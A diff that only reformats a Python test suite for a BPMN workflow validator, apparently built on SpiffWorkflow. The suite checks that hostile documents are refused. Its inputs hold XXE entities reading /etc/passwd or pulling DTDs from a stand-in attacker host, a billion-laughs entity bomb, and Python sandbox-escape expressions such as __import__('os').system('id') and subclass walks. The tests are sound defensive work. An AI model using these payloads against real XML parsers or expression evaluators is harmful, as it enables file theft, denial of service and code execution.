@@ -24,8 +24,9 @@ HEAD = (
 
 def doc(body: str, pid: str = "P", extra: str = "") -> bytes:
     """A one-process document; the process element is on line 3, the body starts on line 4."""
-    return (HEAD + f'<bpmn:process id="{pid}" isExecutable="true">\n{body}\n</bpmn:process>\n{extra}'
-            "</bpmn:definitions>\n").encode()
+    return (
+        HEAD + f'<bpmn:process id="{pid}" isExecutable="true">\n{body}\n</bpmn:process>\n{extra}</bpmn:definitions>\n'
+    ).encode()
 
 
 def linear_body(middle: str, middle_id: str = "T") -> str:
@@ -43,14 +44,18 @@ def linear(middle: str, middle_id: str = "T") -> bytes:
     return doc(linear_body(middle, middle_id))
 
 
-SUB_PROCESS = ('<bpmn:subProcess id="T"><bpmn:startEvent id="SS" /><bpmn:userTask id="Inner" />'
-               '<bpmn:endEvent id="SE" /><bpmn:sequenceFlow id="s1" sourceRef="SS" targetRef="Inner" />'
-               '<bpmn:sequenceFlow id="s2" sourceRef="Inner" targetRef="SE" /></bpmn:subProcess>')
+SUB_PROCESS = (
+    '<bpmn:subProcess id="T"><bpmn:startEvent id="SS" /><bpmn:userTask id="Inner" />'
+    '<bpmn:endEvent id="SE" /><bpmn:sequenceFlow id="s1" sourceRef="SS" targetRef="Inner" />'
+    '<bpmn:sequenceFlow id="s2" sourceRef="Inner" targetRef="SE" /></bpmn:subProcess>'
+)
 
 
 def timer(kind: str, text: str) -> bytes:
-    return linear(f'<bpmn:intermediateCatchEvent id="T"><bpmn:timerEventDefinition><bpmn:{kind}>{text}'
-                  f"</bpmn:{kind}></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>")
+    return linear(
+        f'<bpmn:intermediateCatchEvent id="T"><bpmn:timerEventDefinition><bpmn:{kind}>{text}'
+        f"</bpmn:{kind}></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>"
+    )
 
 
 def script(text: str, attrs: str = "") -> bytes:
@@ -58,8 +63,10 @@ def script(text: str, attrs: str = "") -> bytes:
 
 
 def user_task(fields: str) -> bytes:
-    return linear('<bpmn:userTask id="T" camunda:formKey="f"><bpmn:extensionElements><camunda:formData>\n'
-                  f"{fields}\n</camunda:formData></bpmn:extensionElements></bpmn:userTask>")
+    return linear(
+        '<bpmn:userTask id="T" camunda:formKey="f"><bpmn:extensionElements><camunda:formData>\n'
+        f"{fields}\n</camunda:formData></bpmn:extensionElements></bpmn:userTask>"
+    )
 
 
 def codes(problems: list[Problem]) -> set[str]:
@@ -93,8 +100,7 @@ def only(problems: list[Problem], code: str) -> Problem:
         ("unsupported_BPMN_element__complexGateway", "unsupported_element", "E1", 9),
     ],
 )
-def test_malformed_probe_gets_the_right_problem(name: str, code: str, element_id: str | None,
-                                                line: int) -> None:
+def test_malformed_probe_gets_the_right_problem(name: str, code: str, element_id: str | None, line: int) -> None:
     problems = check((MALFORMED / f"{name}.bpmn").read_bytes())
     problem = only(problems, code)
     assert (problem.element_id, problem.line, problem.severity) == (element_id, line, "error")
@@ -119,8 +125,9 @@ def test_every_malformed_probe_gets_at_least_one_problem() -> None:
 
 
 def test_not_executable_message_explains_the_modeler_default() -> None:
-    problem = only(check((MALFORMED / "isExecutable__false___bpmn_io_default_.bpmn").read_bytes()),
-                   "no_executable_process")
+    problem = only(
+        check((MALFORMED / "isExecutable__false___bpmn_io_default_.bpmn").read_bytes()), "no_executable_process"
+    )
     assert 'isExecutable="false"' in problem.message and "bpmn.io" in problem.message
 
 
@@ -129,8 +136,15 @@ def test_not_executable_message_explains_the_modeler_default() -> None:
 
 @pytest.mark.parametrize(
     ("name", "key"),
-    [("linear10", "Linear10"), ("loop", "StatusLoop"), ("loop_engine_only", "StatusLoop"),
-     ("timers_quoted", "Ack"), ("timers_cycle", "Ack"), ("service_task", "Svc"), ("triage_sub", "TriageSub")],
+    [
+        ("linear10", "Linear10"),
+        ("loop", "StatusLoop"),
+        ("loop_engine_only", "StatusLoop"),
+        ("timers_quoted", "Ack"),
+        ("timers_cycle", "Ack"),
+        ("service_task", "Svc"),
+        ("triage_sub", "TriageSub"),
+    ],
 )
 def test_valid_probes_deploy(name: str, key: str) -> None:
     xml = (FIXTURES / f"{name}.bpmn").read_bytes()
@@ -158,9 +172,14 @@ def test_probes_refused_for_documented_reasons(name: str, expected: set[str]) ->
 
 
 def test_collaboration_with_one_executable_pool_deploys_with_lane_ids() -> None:
-    xml = (FIXTURES / "incident_collab.bpmn").read_bytes().replace(
-        b'id="Hospital" name="Hospital intake" isExecutable="true"',
-        b'id="Hospital" name="Hospital intake" isExecutable="false"')
+    xml = (
+        (FIXTURES / "incident_collab.bpmn")
+        .read_bytes()
+        .replace(
+            b'id="Hospital" name="Hospital intake" isExecutable="true"',
+            b'id="Hospital" name="Hospital intake" isExecutable="false"',
+        )
+    )
     parsed = parse_definition(xml)
     assert (parsed.key, parsed.name) == ("Incident", "Incident Handling")
     assert parsed.lanes["DispatchUnit"] == ("Lane_Responder", "Responder")
@@ -178,7 +197,9 @@ def test_unquoted_timers_are_refused_with_the_quoted_suggestion() -> None:
 def test_hostile_probes_are_refused_naming_element_and_line() -> None:
     problems = check((FIXTURES / "script_injection.bpmn").read_bytes())
     assert [(p.code, p.element_id, p.line) for p in problems] == [
-        ("forbidden_expression", "EvilScript", 7), ("forbidden_expression", "f3", 11)]
+        ("forbidden_expression", "EvilScript", 7),
+        ("forbidden_expression", "f3", 11),
+    ]
     assert all("__import__" in p.message for p in problems)
     escape = only(check((FIXTURES / "subclass_escape.bpmn").read_bytes()), "forbidden_expression")
     assert (escape.element_id, escape.line) == ("Esc", 7)
@@ -190,10 +211,12 @@ def test_hostile_probes_are_refused_naming_element_and_line() -> None:
 def test_xxe_file_read_is_refused_and_the_file_never_appears(tmp_path: Path) -> None:
     secret = tmp_path / "secret.txt"
     secret.write_text("TOP-SECRET-7f3a")
-    xml = (f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>\n'
-           '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">'
-           '<bpmn:process id="P" isExecutable="true"><bpmn:documentation>&x;</bpmn:documentation>'
-           "</bpmn:process></bpmn:definitions>").encode()
+    xml = (
+        f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>\n'
+        '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">'
+        '<bpmn:process id="P" isExecutable="true"><bpmn:documentation>&x;</bpmn:documentation>'
+        "</bpmn:process></bpmn:definitions>"
+    ).encode()
     problems = check(xml, include_warnings=True)
     assert [(p.code, p.line) for p in problems] == [("xml_forbidden", 2)]
     with pytest.raises(DefinitionInvalid) as refused:
@@ -203,9 +226,11 @@ def test_xxe_file_read_is_refused_and_the_file_never_appears(tmp_path: Path) -> 
 
 
 def test_xxe_etc_passwd_and_parameter_entities_are_refused() -> None:
-    for dtd in ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
-                '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>',
-                '<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd">'):
+    for dtd in (
+        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>',
+        '<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd">',
+    ):
         xml = f'<?xml version="1.0"?>\n<!-- harmless -->\n{dtd}<r>&x;</r>'.encode()
         problems = check(xml)
         assert codes(problems) == {"xml_forbidden"}
@@ -224,7 +249,8 @@ def test_bare_ampersand_is_a_syntax_error_with_a_hint() -> None:
 
 def test_billion_laughs_is_refused_quickly() -> None:
     entities = '<!ENTITY lol "lol">' + "".join(
-        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
+        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
+    )
     xml = f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{entities}]>\n<lolz>&lol9;</lolz>'.encode()
     started = time.monotonic()
     problems = check(xml)
@@ -328,9 +354,11 @@ def test_sub_process_needs_one_start_and_an_end() -> None:
 
 
 def test_call_activity_inside_the_document_deploys_with_its_subprocess_spec() -> None:
-    called = ('<bpmn:process id="Sub" isExecutable="true"><bpmn:startEvent id="SS" />'
-              '<bpmn:endEvent id="SE" /><bpmn:sequenceFlow id="s1" sourceRef="SS" targetRef="SE" />'
-              "</bpmn:process>\n")
+    called = (
+        '<bpmn:process id="Sub" isExecutable="true"><bpmn:startEvent id="SS" />'
+        '<bpmn:endEvent id="SE" /><bpmn:sequenceFlow id="s1" sourceRef="SS" targetRef="SE" />'
+        "</bpmn:process>\n"
+    )
     xml = doc(linear_body('<bpmn:callActivity id="T" calledElement="Sub" />'), extra=called)
     parsed = parse_definition(xml)
     assert parsed.key == "P"
@@ -352,8 +380,9 @@ def test_lanes_map_nested_lanes_and_sub_process_contents() -> None:
 
 
 def test_parsed_definition_carries_name_and_documentation() -> None:
-    xml = doc('<bpmn:documentation>突发环境事件 处置流程</bpmn:documentation>\n'
-              '<bpmn:startEvent id="S" />').replace(b'id="P"', 'id="P" name="处置"'.encode())
+    xml = doc('<bpmn:documentation>突发环境事件 处置流程</bpmn:documentation>\n<bpmn:startEvent id="S" />').replace(
+        b'id="P"', 'id="P" name="处置"'.encode()
+    )
     parsed = parse_definition(xml)
     assert isinstance(parsed, ParsedDefinition)
     assert (parsed.key, parsed.name, parsed.documentation) == ("P", "处置", "突发环境事件 处置流程")
@@ -426,17 +455,22 @@ def test_huge_constants_are_refused_at_deploy() -> None:
 
 
 def test_other_expressions_go_through_the_sandbox() -> None:
-    conditional = linear('<bpmn:intermediateCatchEvent id="T"><bpmn:conditionalEventDefinition>'
-                         "<bpmn:condition>__import__('os')</bpmn:condition></bpmn:conditionalEventDefinition>"
-                         "</bpmn:intermediateCatchEvent>")
+    conditional = linear(
+        '<bpmn:intermediateCatchEvent id="T"><bpmn:conditionalEventDefinition>'
+        "<bpmn:condition>__import__('os')</bpmn:condition></bpmn:conditionalEventDefinition>"
+        "</bpmn:intermediateCatchEvent>"
+    )
     assert only(check(conditional), "forbidden_expression").element_id == "T"
-    cardinality = linear('<bpmn:userTask id="T"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>'
-                         "len(().__class__.__subclasses__())</bpmn:loopCardinality>"
-                         "</bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>")
+    cardinality = linear(
+        '<bpmn:userTask id="T"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>'
+        "len(().__class__.__subclasses__())</bpmn:loopCardinality>"
+        "</bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>"
+    )
     assert only(check(cardinality), "forbidden_expression").element_id == "T"
-    payload = linear('<bpmn:intermediateThrowEvent id="T"><bpmn:messageEventDefinition messageRef="M" '
-                     "camunda:expression=\"__import__('os')\" /></bpmn:intermediateThrowEvent>").replace(
-        b"</bpmn:definitions>", b'<bpmn:message id="M" name="m" /></bpmn:definitions>')
+    payload = linear(
+        '<bpmn:intermediateThrowEvent id="T"><bpmn:messageEventDefinition messageRef="M" '
+        "camunda:expression=\"__import__('os')\" /></bpmn:intermediateThrowEvent>"
+    ).replace(b"</bpmn:definitions>", b'<bpmn:message id="M" name="m" /></bpmn:definitions>')
     assert only(check(payload), "forbidden_expression").element_id == "T"
 
 
@@ -445,9 +479,14 @@ def test_other_expressions_go_through_the_sandbox() -> None:
 
 @pytest.mark.parametrize(
     ("kind", "text"),
-    [("timeDuration", '"PT1H"'), ("timeDuration", "'P1DT2H'"), ("timeDuration", ' "PT30M" '),
-     ("timeCycle", '"R3/PT10M"'), ("timeDate", '"2030-06-01T08:00:00+08:00"'),
-     ("timeDuration", "\"PT1H\" if severity &gt;= 3 else \"PT4H\"")],
+    [
+        ("timeDuration", '"PT1H"'),
+        ("timeDuration", "'P1DT2H'"),
+        ("timeDuration", ' "PT30M" '),
+        ("timeCycle", '"R3/PT10M"'),
+        ("timeDate", '"2030-06-01T08:00:00+08:00"'),
+        ("timeDuration", '"PT1H" if severity &gt;= 3 else "PT4H"'),
+    ],
 )
 def test_valid_timers(kind: str, text: str) -> None:
     assert check(timer(kind, text)) == []
@@ -468,7 +507,7 @@ def test_valid_timers(kind: str, text: str) -> None:
         ("timeCycle", '"every hour"', "repeating interval"),
         ("timeDuration", "", "empty"),
         ("timeDuration", "in one hour", "neither a quoted ISO 8601 value"),
-        ("timeDuration", "\"PT1H\" if severity &gt;= 3 else \"PT4X\"", "'PT4X'"),
+        ("timeDuration", '"PT1H" if severity &gt;= 3 else "PT4X"', "'PT4X'"),
         ("timeDuration", "__import__('os').system('id')", "sandbox"),
     ],
 )
@@ -511,17 +550,21 @@ def test_valid_form_deploys() -> None:
     ("fields", "fragment"),
     [
         ('<camunda:formField id="a" type="number" />', "has type 'number'"),
-        ('<camunda:formField id="a" type="string" />\n<camunda:formField id="a" type="long" />',
-         "defined twice"),
+        ('<camunda:formField id="a" type="string" />\n<camunda:formField id="a" type="long" />', "defined twice"),
         ('<camunda:formField id="a" type="enum" />', "enum without values"),
         ('<camunda:formField id="a" type="long" defaultValue="high" />', "not an integer"),
         ('<camunda:formField id="a" type="boolean" defaultValue="yes" />', "true or false"),
-        ('<camunda:formField id="a" type="enum" defaultValue="c"><camunda:value id="b" name="B" />'
-         "</camunda:formField>", "one of b"),
+        (
+            '<camunda:formField id="a" type="enum" defaultValue="c"><camunda:value id="b" name="B" />'
+            "</camunda:formField>",
+            "one of b",
+        ),
         ('<camunda:formField id="a" type="string" defaultValue="${initiator}" />', "Camunda expression"),
-        ('<camunda:formField id="a" type="long"><camunda:validation>'
-         '<camunda:constraint name="max" config="ten" /></camunda:validation></camunda:formField>',
-         "needs a number"),
+        (
+            '<camunda:formField id="a" type="long"><camunda:validation>'
+            '<camunda:constraint name="max" config="ten" /></camunda:validation></camunda:formField>',
+            "needs a number",
+        ),
         ('<camunda:formField type="string" />', "no id"),
     ],
 )
@@ -533,8 +576,7 @@ def test_form_field_problems(fields: str, fragment: str) -> None:
 
 
 def test_hostile_form_default_is_refused() -> None:
-    xml = user_task('<camunda:formField id="a" type="string" '
-                    "defaultValue=\"__import__('os').getcwd()\" />")
+    xml = user_task('<camunda:formField id="a" type="string" defaultValue="__import__(\'os\').getcwd()" />')
     assert only(check(xml), "forbidden_expression").element_id == "T"
 
 
@@ -557,12 +599,13 @@ def test_spiffworkflow_parse_errors_are_reported_with_element_and_line() -> None
 
 
 def test_boundary_event_without_definition_and_dangling_references() -> None:
-    xml = linear('<bpmn:userTask id="T" />\n<bpmn:boundaryEvent id="B" attachedToRef="Gone" />\n'
-                 '<bpmn:intermediateThrowEvent id="M"><bpmn:messageEventDefinition messageRef="Nope" />'
-                 "</bpmn:intermediateThrowEvent>")
+    xml = linear(
+        '<bpmn:userTask id="T" />\n<bpmn:boundaryEvent id="B" attachedToRef="Gone" />\n'
+        '<bpmn:intermediateThrowEvent id="M"><bpmn:messageEventDefinition messageRef="Nope" />'
+        "</bpmn:intermediateThrowEvent>"
+    )
     found = {(p.code, p.element_id) for p in check(xml)}
-    assert {("missing_event_definition", "B"), ("attached_to_missing", "B"),
-            ("reference_missing", "M")} <= found
+    assert {("missing_event_definition", "B"), ("attached_to_missing", "B"), ("reference_missing", "M")} <= found
 
 
 def test_warnings_for_what_the_engine_would_silently_ignore() -> None:
@@ -576,8 +619,7 @@ def test_warnings_for_what_the_engine_would_silently_ignore() -> None:
     )
     assert check(xml) == []
     warnings = {(p.code, p.element_id) for p in check(xml, include_warnings=True)}
-    assert {("ignored_extension", "U"), ("unreachable_element", "Orphan"),
-            ("ignored_condition", "f2")} <= warnings
+    assert {("ignored_extension", "U"), ("unreachable_element", "Orphan"), ("ignored_condition", "f2")} <= warnings
     assert all(p.severity == "warning" for p in check(xml, include_warnings=True))
 
 
@@ -587,4 +629,4 @@ def test_check_never_raises_on_damaged_documents() -> None:
         assert isinstance(check(data[:cut], include_warnings=True), list)
     lines = data.split(b"\n")
     for i in range(len(lines)):
-        assert isinstance(check(b"\n".join(lines[:i] + lines[i + 1:]), include_warnings=True), list)
+        assert isinstance(check(b"\n".join(lines[:i] + lines[i + 1 :]), include_warnings=True), list)
